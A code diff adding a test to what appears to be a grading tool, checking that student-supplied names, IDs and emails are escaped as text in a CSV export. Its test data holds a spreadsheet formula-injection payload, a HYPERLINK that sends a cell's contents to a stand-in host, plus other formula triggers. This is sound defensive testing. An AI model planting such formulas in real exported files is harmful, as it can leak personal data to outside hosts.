@@ -261,3 +261,27 @@ def test_every_entry_of_an_export_gets_a_row(tmp_path, monkeypatch):
     assert status["submission_104"] == ("error", "not a submission folder")
     assert json.loads((out / "results" / "submission_104.json").read_text())["submitters"] \
         == [{"name": "Corrupt Notebook", "email": "c@example.edu", "sid": ""}]
+
+
+def test_submitter_text_never_becomes_a_spreadsheet_formula(tmp_path, monkeypatch):
+    """A name a student chose on Gradescope, like =HYPERLINK(...): is it written to
+    grades.csv as text a spreadsheet shows (a leading '), never as a formula it runs, while
+    plain names, emails and numbers stay as they are?"""
+    export = write_export(tmp_path / "export", {101: b"{}", 102: b"{}"})
+    (export / gradescope_export.METADATA).write_text(
+        "submission_101:\n  :submitters:\n"
+        "  - {':name': '=HYPERLINK(\"http://x.example/?\"&C2,\"x\")', ':sid': '+1',"
+        " ':email': '@SUM(1)'}\n"
+        "submission_102:\n  :submitters:\n  - {':name': Ada, ':sid': '-7',"
+        " ':email': a@example.edu}\n")
+    monkeypatch.setattr(grade_all, "gradescope_run", lambda *a, **k: (
+        {"tests": [{"name": "q1", "score": 1.0, "max_score": 2}]}, ""))
+    zip_path = tmp_path / "fake.zip"
+    zip_path.write_bytes(b"zip")
+    out = tmp_path / "out"
+    grade_all.grade_folder(NAME, export, out, jobs=1, zip_path=zip_path, quiet=True)
+    with open(out / "grades.csv", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert [(r["name"], r["sid"], r["email"], r["total"]) for r in rows] == [
+        ("'=HYPERLINK(\"http://x.example/?\"&C2,\"x\")", "'+1", "'@SUM(1)", "1"),
+        ("Ada", "'-7", "a@example.edu", "1")]
